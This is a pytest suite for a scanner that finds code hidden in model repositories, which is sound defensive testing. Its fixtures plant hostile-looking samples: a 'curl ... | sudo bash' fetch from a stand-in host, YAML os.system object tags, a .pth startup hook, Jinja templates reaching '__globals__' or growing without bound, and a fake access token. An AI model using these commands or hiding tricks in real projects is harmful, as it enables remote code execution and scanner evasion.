"""The code check: whatever a repository does to hide its code from bandit, it is found."""

from __future__ import annotations

import io
import json
import marshal
import struct
import tarfile
import zipfile
from collections.abc import Mapping
from pathlib import Path

import pytest

from modelctl.checks.base import Finding, Observation
from modelctl.checks.code import CHECK, CodeLimits
from modelctl.errors import CannotDecideError
from modelctl.model.tree import scan_tree
from modelctl.scan.code_files import gather
from tests.scan.test_gguf import TEMPLATE, TOKENS, gguf
from tests.support.contexts import KeptEvidence, tree_context
from tests.support.models import tiny_llama

SYSTEM = "import os\nos.system('true')\n"
SHELL = "import subprocess\nsubprocess.Popen('true', shell=True)  # nosec\n"


def check(folder: Path, limits: CodeLimits | None = None) -> Observation:
    return CHECK.run(tree_context(folder, limits or CodeLimits(), scratch=folder.parent / "scratch"))


def write(folder: Path, files: Mapping[str, str | bytes]) -> Path:
    for name, content in files.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content if isinstance(content, bytes) else content.encode())
    return folder


def notebook(*cells: str) -> str:
    return json.dumps({"nbformat": 4, "cells": [{"cell_type": "code", "source": [cell]} for cell in cells]})


def test_a_repository_without_python_passes_with_a_measurement(tmp_path: Path) -> None:
    observation = check(tiny_llama(tmp_path / "model"))
    assert (observation.findings, observation.undecided) == ((), ())
    assert next(item.value for item in observation.measurements if item.name == "python-files") == 0
    assert observation.coverage[0].seen == observation.coverage[0].total > 0
    assert observation.tools == {}


def zipped(members: Mapping[str, str]) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return stream.getvalue()


def tarred(members: Mapping[str, str]) -> bytes:
    stream = io.BytesIO()
    with tarfile.open(fileobj=stream, mode="w:gz") as archive:
        for name, content in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(content)
            archive.addfile(info, io.BytesIO(content.encode()))
    return stream.getvalue()


HOSTILE: dict[str, str | bytes] = {
    ".bandit": "[bandit]\nskips: B602,B605\nexclude: /\n",
    ".git/hooks/update.py": SHELL,
    "__pycache__/x.py": SHELL,
    ".cache/huggingface/x.py": SHELL,
    "nosec.py": SHELL,
    "broken.py": "def broken(:\n",
    "train": "#!/usr/bin/env python3\n" + SYSTEM,
    "no_shebang": SYSTEM,
    "license.txt": SYSTEM,
    "demo.ipynb": notebook("x = 1", SYSTEM, "%matplotlib inline\n!ls\ny = !ls", "%%bash\nls", "%timeit f(1)\nprint(1)"),
    "latin.py": "# -*- coding: latin-1 -*-\nimport os\nos.system('\xe9')\n".encode("latin-1"),
    "weak.py": "import hashlib\nhashlib.md5(b'')\n",
    "deep.py": "x = " + "(" * 5000,
    "module.pyc": struct.pack("<H", 3495) + b"\r\n" + bytes(12) + marshal.dumps("x"),
    "lib.so": b"\x7fELF" + bytes(100),
    "args.yaml": "!!python/object/apply:os.system [true]\n",
    "notes.md": "# Notes\n```python\n" + SYSTEM + "```\n",
    "load.py": "from transformers import AutoModel\nAutoModel.from_pretrained('org/model')\n",
    "vocab.txt": "import\nos\nclass\n",
    "harmless.py": "import torch\n\n\ndef forward(x):\n    return torch.relu(x)\n",
    "data.py": '["' + "x" * 70_000 + '"]\n' + SYSTEM,
    "data.txt": '["' + "x" * 70_000 + '"]\n' + SYSTEM,
    "run.sh": "#!/bin/sh\nls\n",
    "install.sh": "#!/bin/sh\ncurl -s https://x.example/i | sudo bash\n",
    "evil.pth": "import os; os.system('true')\n",
    "sitecustomize.py": "x = 1\n",
    "requirements.txt": "torch\ngit+https://x.example/y.git\n",
    "utf7.py": b"# coding: utf-7\nimport os\n+AG8-s.system('true')\n",
    "utf16.log": SYSTEM.encode("utf-16"),
    "nul.txt": SYSTEM.encode() + b"\0" + b"# more\n" * 40,
    "bom.py": b"\xef\xbb\xbf" + SYSTEM.encode(),
    "long.txt": "# text\n" * 700_000 + SYSTEM,
    "pack.whl": zipped({"inside/mod.py": SYSTEM, "config.json": '{"auto_map": {"AutoModel": "a/b--c.D"}}'}),
    "pack.tar.gz": tarred({"train": "#!/usr/bin/env python3\n" + SYSTEM}),
    "conf/deep.yaml": "a:\n  - b: {_target_: os.system}\n",
    "hyper.yaml": "model: !new:os.system\n",
    "kernels.lock": '[{"repo_id": "a/b"}]',
    "code.json": SYSTEM,
    "code.yaml": SYSTEM,
    "chat_template.txt": "{{ x.__globals__ }}",
    "endless.jinja": "{% set ns = namespace(x='ab') %}{% for i in range(64) %}{% set ns.x = ns.x ~ ns.x %}{% endfor %}",
}


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Observation:
    folder = write(tmp_path_factory.mktemp("code") / "model", HOSTILE)
    context = tree_context(folder, CodeLimits(template_memory_limit_mib=64), scratch=folder.parent / "scratch")
    observation = CHECK.run(context)
    assert isinstance(context.evidence, KeptEvidence)
    assert b"B602" in context.evidence.kept["bandit-source.json"]
    return observation


@pytest.mark.parametrize(
    ("path", "rule"),
    [
        (".git/hooks/update.py", "code.process"),
        ("__pycache__/x.py", "code.process"),
        (".cache/huggingface/x.py", "code.process"),
        ("nosec.py", "code.process"),
        ("broken.py", "code.unreadable-python"),
        ("train", "code.process"),
        ("no_shebang", "code.process"),
        ("license.txt", "code.process"),
        ("demo.ipynb", "code.process"),
        ("latin.py", "code.process"),
        ("data.py", "code.process"),
        ("data.txt", "code.process"),
        ("weak.py", "code.bandit-b324"),
        ("deep.py", "code.unreadable-python"),
        ("module.pyc", "code.compiled-python"),
        ("lib.so", "code.native-binary"),
        ("args.yaml", "code.yaml-object"),
        ("install.sh", "code.process"),
        ("evil.pth", "code.dynamic-code"),
        ("sitecustomize.py", "code.dynamic-code"),
        ("requirements.txt", "code.requirements"),
        ("utf7.py", "code.process"),
        ("utf16.log", "code.process"),
        ("nul.txt", "code.process"),
        ("bom.py", "code.process"),
        ("long.txt", "code.unreadable-python"),
        ("pack.whl", "code.process"),
        ("pack.whl", "code.auto-map"),
        ("pack.tar.gz", "code.process"),
        ("conf/deep.yaml", "code.custom-pipeline"),
        ("hyper.yaml", "code.yaml-object"),
        ("kernels.lock", "code.hub-kernel"),
        ("code.json", "code.process"),
        ("code.yaml", "code.process"),
        ("chat_template.txt", "code.template"),
        ("endless.jinja", "code.template"),
    ],
)
def test_code_is_found_wherever_and_however_it_hides(hostile: Observation, path: str, rule: str) -> None:
    assert rule in {finding.rule for finding in hostile.findings if finding.path == path}


def test_what_is_no_hostile_code_is_left_alone(hostile: Observation) -> None:
    paths = {finding.path for finding in hostile.findings}
    assert paths.isdisjoint({"notes.md", "vocab.txt", "harmless.py", ".bandit", "run.sh", "load.py"})
    assert any(warning.startswith("load.py:2: ") for warning in hostile.warnings)
    assert any("run.sh" in warning for warning in hostile.warnings)
    assert hostile.undecided == ()


def test_a_notebook_is_told_by_cell_and_line(hostile: Observation) -> None:
    messages = [finding.message for finding in hostile.findings if finding.path == "demo.ipynb"]
    assert any(message.startswith("demo.ipynb cell 2:2: os.system") for message in messages)
    assert any("cell 3 line 2" in message for message in messages)
    assert any("cell 3 line 3" in message for message in messages)
    assert any("cell 4 is a cell of %%bash" in message for message in messages)
    assert not any("cell 5" in message for message in messages)


def test_one_place_is_one_finding(hostile: Observation) -> None:
    assert len([finding for finding in hostile.findings if finding.path == "nosec.py"]) == 1


def test_the_policy_sets_bandits_limit_but_never_frees_exec(tmp_path: Path) -> None:
    folder = write(tmp_path / "model", {"weak.py": "import hashlib\nhashlib.md5(b'')\n", "bad.py": "exec('1')\n"})
    observation = check(folder, CodeLimits(severity="high", confidence="high"))
    rules = {finding.path: finding.rule for finding in observation.findings}
    assert rules["bad.py"] == "code.dynamic-code"


def static(tmp_path: Path, files: Mapping[str, str | bytes], limits: CodeLimits | None = None) -> tuple[Finding, ...]:
    return check(write(tmp_path / "model", files), limits).findings


def test_auto_map_is_refused_and_own_code_may_be_allowed(tmp_path: Path) -> None:
    other = {"config.json": json.dumps({"auto_map": {"AutoModel": "other/repo--mod.Cls"}})}
    own = {"config.json": json.dumps({"auto_map": {"AutoModel": "mod.Cls"}}), "mod.py": "class Cls:\n    pass\n"}
    allowed = CodeLimits(allow_own_code=True)
    assert [item.rule for item in static(tmp_path / "a", other)] == ["code.auto-map"]
    assert [item.rule for item in static(tmp_path / "b", other, allowed)] == ["code.auto-map"]
    assert [item.rule for item in static(tmp_path / "c", own)] == ["code.auto-map"]
    assert static(tmp_path / "d", own, allowed) == ()


@pytest.mark.slow
def test_own_code_that_is_not_here_is_not_allowed_and_a_decoding_loop_is_own_code(tmp_path: Path) -> None:
    gone: dict[str, str | bytes] = {"config.json": json.dumps({"auto_map": {"AutoModel": "gone.Cls"}})}
    allowed = CodeLimits(allow_own_code=True)
    assert [item.rule for item in static(tmp_path / "e", gone, allowed)] == ["code.auto-map"]
    generate: dict[str, str | bytes] = {"custom_generate/generate.py": "def generate(model):\n    return model\n"}
    assert [item.rule for item in static(tmp_path / "f", generate)] == ["code.custom-pipeline"]
    assert static(tmp_path / "g", generate, allowed) == ()


def test_templates_are_refused_wherever_they_are(tmp_path: Path) -> None:
    bad = "{{ messages.__init__.__globals__ }}"
    files: dict[str, str | bytes] = {
        "chat_template.jinja": bad,
        "additional_chat_templates/tool.jinja": bad,
        "tokenizer_config.json": json.dumps({"chat_template": bad}),
        "chat_template.json": json.dumps({"chat_template": [{"name": "x", "template": bad}]}),
        "model.gguf": gguf(TOKENS, TEMPLATE),
        "good.jinja": "{% for message in messages %}{{ message.content }}{% endfor %}",
    }
    found = static(tmp_path, files)
    assert {item.path for item in found} == set(files) - {"good.jinja"}
    assert {item.rule for item in found} == {"code.template"}


def test_hooks_and_secrets_in_files_that_do_not_parse(tmp_path: Path) -> None:
    secret = "hf_" + "kQzVbTmWcXjRyLpNsGdHfJaEuCvBnMqZrT"
    files: dict[str, str | bytes] = {
        "config.json": '{"auto_map": {',
        "cut.json": '{"a": ',
        "broken.gguf": b"GGUF" + struct.pack("<IQQ", 3, 0, 5),
        "train.log": f"token {secret}",
    }
    found = {item.path: item for item in static(tmp_path, files)}
    assert {path: item.rule for path, item in found.items()} == {
        "config.json": "code.unreadable-json",
        "broken.gguf": "code.unreadable-gguf",
        "train.log": "code.secret",
    }
    assert secret not in found["train.log"].message


def test_more_text_than_is_held_is_refused_and_not_read(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("modelctl.scan.gathered.MAX_SOURCE_BYTES", 64)
    folder = write(tmp_path / "model", {"a.py": "x = 1\n" * 10, "b.py": "y = 1\n"})
    gathered = gather(scan_tree(folder), scratch=tmp_path)
    assert [unit.path for unit in gathered.units] == ["a.py"]
    assert [(item.path, item.rule) for item in gathered.problems] == [("b.py", "unreadable-python")]


def test_a_text_that_is_too_much_for_a_syntax_tree_is_unjudged(tmp_path: Path) -> None:
    files: dict[str, str | bytes] = {"license.txt": "import os\nx = a" + ".b" * 20_000 + "\n", "notes.txt": "f(1 1"}
    assert [(item.path, item.rule) for item in static(tmp_path, files)] == [("license.txt", "code.unreadable-python")]


def test_a_child_that_runs_out_of_time_decides_nothing(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("modelctl.checks.code.WORKER_MEMORY_BYTES", 1 << 20)
    folder = write(tmp_path / "model", {f"{number}.py": "x = [" + "1," * 400_000 + "]" for number in range(4)})
    with pytest.raises(CannotDecideError):
        check(folder)


def test_files_too_large_for_text_are_named_and_large_weights_are_not(tmp_path: Path) -> None:
    folder = write(tmp_path / "model", {"config.json": "{}"})
    for name, start in (
        ("model.safetensors", struct.pack("<Q", 64) + b"{" + b" " * 63),
        ("blob", b"x"),
        ("big.json", b"{"),
        ("chat_template.jinja", b"{{ x }}"),
        ("tool.yaml", b"a: b"),
    ):
        with (folder / name).open("wb") as stream:
            stream.write(start)
            stream.truncate(50 << 20)
    observation = check(folder)
    assert [item.split(":")[0] for item in observation.coverage[0].excluded] == [
        *("big.json", "blob", "chat_template.jinja", "tool.yaml")
    ]
    assert [item.rule for item in observation.findings] == [
        *("code.unreadable-json", "code.template", "code.unreadable-json")
    ]


def test_large_members_of_archives_are_told(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("modelctl.scan.packed.MAX_MEMBER_BYTES", 5)
    folder = write(tmp_path / "model", {"a.zip": zipped({"setup.py": "x = 12\n", "weights": "123456", "b": ""})})
    gathered = gather(scan_tree(folder), scratch=tmp_path)
    assert [(item.path, item.rule) for item in gathered.problems] == [("a.zip", "unreadable-python")]
    assert gathered.problems[0].detail.startswith("a.zip!setup.py: over ")
    assert gathered.unread == ["a.zip: members of over 4 MiB that were not looked at for code: 1"]
